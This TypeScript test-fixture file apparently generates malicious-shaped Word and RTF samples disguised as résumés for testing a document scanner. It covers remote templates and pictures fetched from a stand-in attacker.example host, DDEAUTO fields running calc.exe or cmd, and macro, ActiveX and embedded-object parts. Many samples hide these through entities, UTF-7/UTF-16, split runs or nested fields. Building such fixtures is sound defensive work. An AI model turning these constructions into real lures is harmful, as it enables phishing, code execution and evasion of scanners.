import {
  contentTypes,
  documentOf,
  overrideOf,
  paragraphsOf,
  relationshipOf,
  relationshipsOf,
  toEntries,
  typesOf,
  wordTypes,
} from './make-package.ts'
import { makeZip } from './malicious-files.ts'

type Bytes = Uint8Array<ArrayBuffer>
export type Sample = readonly [what: string, name: string, content: Bytes]

const external = ' TargetMode="External"'
const server = 'https://attacker.example/x'
const docx = (parts: Parameters<typeof toEntries>[0]) => makeZip(toEntries(parts))
const withRelationship = (kind: string, target: string, more = '') =>
  docx({ relationships: relationshipsOf(relationshipOf(kind, target, more)) })
const withPart = (name: string, type: string, kind: string, content = 'x') =>
  docx({
    types: contentTypes.replace('</Types>', `${overrideOf(name, type)}</Types>`),
    relationships: relationshipsOf(relationshipOf(kind, name.replace('word/', ''))),
    others: { [name]: content },
  })
const withBody = (body: string) => docx({ document: documentOf(body) })
const withField = (...parts: string[]) =>
  withBody(
    paragraphsOf(
      '<w:fldChar w:fldCharType="begin"/>',
      ...parts.map((part) => `<w:instrText xml:space="preserve">${part}</w:instrText>`),
      '<w:fldChar w:fldCharType="end"/>',
    ),
  )
const main = `${wordTypes}.document.main+xml`
const utf16 = (text: string) =>
  Buffer.from(`\ufeff${text.replace('encoding="UTF-8"', 'encoding="UTF-16"')}`, 'utf16le')
const macroTypes = contentTypes.replace(
  main,
  'application/vnd.ms-word.document.macroEnabled.main+xml',
)

const word: readonly (readonly [string, Bytes])[] = [
  ['a template of a server', withRelationship('attachedTemplate', server, external)],
  [
    'a template of a Windows share',
    withRelationship('attachedTemplate', 'file://///attacker.example/x.dotm', external),
  ],
  [
    'a template of a share, escaped',
    withRelationship('attachedTemplate', 'file:///%5C%5Cattacker.example/x.dotm', external),
  ],
  ['an object of a server', withRelationship('oleObject', `mhtml:${server}!x`, external)],
  ['a picture of a server', withRelationship('image', server, external)],
  [
    'a template whose mode is escaped',
    withRelationship('attachedTemplate', server, ' TargetMode="&#69;xternal"'),
  ],
  [
    'a template with a foreign mode before its own',
    withRelationship('attachedTemplate', server, ` x:TargetMode="Internal"${external}`),
  ],
  ['a chunk of HTML', withPart('word/a.html', 'text/html', 'aFChunk')],
  [
    'a chunk called XML',
    docx({ document: documentOf('<w:altChunk r:id="rId7"/>'), others: { 'word/a.xml': '<a/>' } }),
  ],
  [
    'an embedded object',
    withPart(
      'word/embeddings/oleObject1.bin',
      'application/vnd.openxmlformats-officedocument.oleObject',
      'oleObject',
    ),
  ],
  ['an embedded object called a picture', withPart('word/media/a.png', 'image/png', 'oleObject')],
  [
    'an ActiveX control',
    withPart('word/control1.xml', 'application/vnd.ms-office.activeX+xml', 'control', '<ax:ocx/>'),
  ],
  [
    'macros under another name',
    withPart('word/data.bin', 'application/vnd.ms-office.vbaProject', 'vbaProject'),
  ],
  [
    'a macro type in character references',
    docx({
      types: contentTypes.replace(
        main,
        main.replace('document.main', 'document.m&#x61;croEnabled.main'),
      ),
    }),
  ],
  [
    'a macro type in an entity',
    docx({
      types: contentTypes
        .replace('<Types', '<!DOCTYPE Types [<!ENTITY m "macroEnabled">]><Types')
        .replace('document.main', 'document.&m;.main'),
    }),
  ],
  ['a macro type in UTF-16', docx({ types: utf16(macroTypes) })],
  ['a macro type in UTF-7', docx({ types: macroTypes.replace('UTF-8', 'UTF-7') })],
  [
    'relationships in UTF-16',
    docx({
      relationships: utf16(relationshipsOf(relationshipOf('attachedTemplate', server, external))),
    }),
  ],
  ['a document in UTF-16', docx({ document: utf16(documentOf('')) })],
  [
    'two types for a file extension',
    docx({
      types: typesOf(
        `<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/>${overrideOf('word/document.xml', main)}`,
      ),
    }),
  ],
  ['a DDE field', withField('DDEAUTO c:\\\\windows\\\\system32\\\\calc.exe')],
  ['a DDE field over many runs', withField(' D', 'D', '<!-- x -->E', 'AUTO "a" "b"')],
  [
    'a DDE field around another field',
    withBody(
      paragraphsOf(
        '<w:fldChar w:fldCharType="begin"/>',
        '<w:instrText>DD</w:instrText>',
        '<w:fldChar w:fldCharType="begin"/>',
        '<w:instrText>QUOTE 65</w:instrText>',
        '<w:fldChar w:fldCharType="end"/>',
        '<w:instrText>E cmd x</w:instrText>',
        '<w:fldChar w:fldCharType="end"/>',
      ),
    ),
  ],
  [
    'a DDE field split by an unknown element',
    withField('DD', '</w:instrText><x:fldChar x:fldCharType="begin"/><w:instrText>EAUTO cmd'),
  ],
  [
    'a DDE field in an entity',
    docx({
      document: documentOf(paragraphsOf('<w:instrText>&d;AUTO x</w:instrText>')).replace(
        '<w:document',
        '<!DOCTYPE d [<!ENTITY d "DDE">]><w:document',
      ),
    }),
  ],
  [
    'a DDE field in UTF-7',
    docx({
      document: documentOf(paragraphsOf('<w:instrText>+AEQARABF-AUTO x</w:instrText>')).replace(
        'UTF-8',
        'UTF-7',
      ),
    }),
  ],
  [
    'macros by the type of their extension',
    docx({
      types: contentTypes.replace(
        '<Override',
        '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/><Override',
      ),
      others: { 'word/a.dat': 'x' },
    }),
  ],
  [
    'a macro type under another spelling of its name',
    docx({
      types: contentTypes.replace(
        '</Types>',
        `${overrideOf('word/./document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml')}</Types>`,
      ),
    }),
  ],
  [
    'a header as its main part',
    docx({ types: typesOf(overrideOf('word/document.xml', `${wordTypes}.header+xml`)) }),
  ],
  ['a DDE field in character references', withField('&#68;&#x44;EAUTO cmd')],
  ['a field named by an upper-case hexadecimal reference', withField('P&#x4C;AGE')],
  [
    'a field that includes a text',
    withBody(`<w:fldSimple w:instr=" INCLUDETEXT &quot;${server}&quot;"/>`),
  ],
  ['a field that includes a picture', withField(`INCLUDEPICTURE "${server}" \\d`)],
  [
    'a picture of a server in VML',
    withBody(`<w:pict><v:shape><v:imagedata src="${server}"/></v:shape></w:pict>`),
  ],
  [
    'a field in a header',
    withPart(
      'word/header1.xml',
      `${wordTypes}.header+xml`,
      'header',
      '<w:hdr><w:p><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p></w:hdr>',
    ),
  ],
  [
    'a main document among the data of other programs',
    docx({
      types: typesOf(overrideOf('customXml/item1.xml', main)),
      main: 'customXml/item1.xml',
      document: documentOf('<w:altChunk r:id="rId7"/>'),
    }),
  ],
]

const begin = '<w:fldChar w:fldCharType="begin"/>'
const end = '<w:fldChar w:fldCharType="end"/>'
const instruction = (text: string) => `<w:instrText xml:space="preserve">${text}</w:instrText>`
const settings = (content: string) =>
  withPart(
    'word/settings.xml',
    `${wordTypes}.settings+xml`,
    'settings',
    `<w:settings>${content}</w:settings>`,
  )
const header = `<w:hdr>${paragraphsOf(instruction('DDEAUTO x'))}</w:hdr>`

const wordInDisguise: readonly (readonly [string, Bytes])[] = [
  [
    'a DDE field behind a foreign attribute',
    withBody('<w:fldSimple q:instr="PAGE" w:instr="DDEAUTO c:\\x"/>'),
  ],
  [
    'a field whose begin is behind a foreign attribute',
    withBody(
      paragraphsOf(
        '<w:fldChar q:fldCharType="x" w:fldCharType="begin"/>',
        instruction('PAGE'),
        '<w:fldChar q:fldCharType="x" w:fldCharType="end"/>',
        '<w:fldChar q:fldCharType="x" w:fldCharType="begin"/>',
        instruction('LINK Excel.Sheet x'),
        '<w:fldChar q:fldCharType="x" w:fldCharType="end"/>',
      ),
    ),
  ],
  [
    'a field whose name is a field',
    withBody(
      paragraphsOf(
        begin,
        begin,
        instruction('QUOTE 68 68 69 65 85 84 79'),
        end,
        instruction(' c:\\windows\\cmd.exe'),
        end,
      ),
    ),
  ],
  [
    'a field whose name ends in a field',
    withBody(paragraphsOf(begin, instruction('PAGE'), begin, instruction('PAGE'), end, end)),
  ],
  ['a field of a database', withField('DATABASE \\d x')],
  ['a field that refers to a document', withBody('<w:fldSimple w:instr="RD x"/>')],
  [
    'a field behind deleted text',
    withField('</w:instrText><w:delInstrText>PAGE </w:delInstrText><w:instrText>LINK x'),
  ],
  [
    'a field behind a foreign one',
    withField('</w:instrText><q:instrText>PAGE </q:instrText><w:instrText>LINK x'),
  ],
  ['a mail merge', settings('<w:mailMerge><w:connectString w:val="x"/></w:mailMerge>')],
  [
    'a header among the data of other programs',
    docx({
      relationships: relationshipsOf(relationshipOf('header', '..\\customXml\\header1.xml')),
      others: { 'customXml/header1.xml': header },
    }),
  ],
  ['a header called a picture', withPart('word/header1.xml', 'image/png', 'header', header)],
  [
    'a header called a picture, after a byte order mark',
    withPart('word/header1.xml', 'image/png', 'header', `\ufeff\n${header}`),
  ],
  [
    'a header called relationships',
    withPart(
      'word/header1.xml',
      'application/vnd.openxmlformats-package.relationships+xml',
      'header',
      header,
    ),
  ],
]

const rtf = (content: string): Bytes =>
  Uint8Array.from(Buffer.from(`{\\rtf1\\ansi Nele New ${content}}`, 'latin1'))
const rtfField = (instruction: string) => rtf(`{\\field{\\*\\fldinst ${instruction}}{\\fldrslt x}}`)

/** As binary data it would be skipped. */
const hidden = '{\\field{\\*\\fldinst DDEAUTO x}}'

const richText: readonly (readonly [string, Bytes])[] = [
  ['objdata with a number', rtf('{\\object\\objemb0{\\*\\objdata0 0105}}')],
  ['objocx', rtf('{\\*\\objocx1 x}')],
  ['an object that binary data could hide', rtf('{\\pict\\bin28 {\\object{\\*\\objdata 0105}}}}')],
  ['objdata alone, with a number', rtf('{\\*\\objdata000105}')],
  ['an object in binary data', rtf('{\\pict\\bin1 \\\\objdata0105}')],
  ['an object after binary data outside of a picture', rtf(`{\\bin${hidden.length} ${hidden}}`)],
  ['a template of a server', rtf(`{\\*\\template ${server}}`)],
  ['a template of a share, escaped', rtf("{\\*\\template0 \\'5c\\'5cattacker.example\\'5cx.dotm}")],
  ['a DDE field', rtfField('DDEAUTO c:\\\\\\\\windows\\\\\\\\calc.exe "x"')],
  ['a DDE field over many groups', rtfField('{D}{\\b D}{\\b0 EA}\r\n{UTO x}')],
  ['a DDE field in hexadecimal', rtfField("\\'44\\'44\\'45 cmd")],
  ['a DDE field in Unicode', rtfField('\\u68?\\u68?\\uc2\\u69??AUTO x')],
  ['a field that includes a text', rtfField(`INCLUDETEXT "${server}"`)],
  ['a field that includes a picture', rtfField(`INCLUDEPICTURE "${server}"`)],
  [
    'a field whose name is a field',
    rtfField('{\\field{\\*\\fldinst QUOTE 68 68 69 65 85 84 79}{\\fldrslt}} c:\\\\x'),
  ],
  ['a field whose name ends in a field', rtfField('PAGE{\\field{\\*\\fldinst PAGE}}')],
  ['a DDE field around an unknown group', rtfField('DDE{\\*\\unknown xyz}AUTO c:\\\\x')],
  ['a field behind an unknown group', rtfField('{\\*\\unknown PAGE }LINK x')],
  ['a field behind a group of another purpose', rtfField('{\\info PAGE }LINK x')],
  ['a field behind a result', rtfField('{\\fldrslt PAGE }LINK x')],
  ['a field before another of its group', rtfField('LINK x\\fldinst PAGE')],
  ['a field of a database', rtfField('DATABASE \\\\d x')],
  ['a field that refers to a document', rtfField('RD x')],
  ['a mail merge', rtf('{\\*\\mailmerge\\mmlinktoquery{\\mmconnectstr DSN=x}}')],
  ['a source of a mail merge', rtf('{\\*\\mmdatasource x}')],
]

/** Office documents that run or load something when opened; harmless themselves. */
export const officeAttacks: readonly Sample[] = [
  ...[...word, ...wordInDisguise].map(
    ([what, content]) => [`Word with ${what}`, 'resume.docx', content] as const,
  ),
  ...richText.map(([what, content]) => [`rich text with ${what}`, 'resume.rtf', content] as const),
]
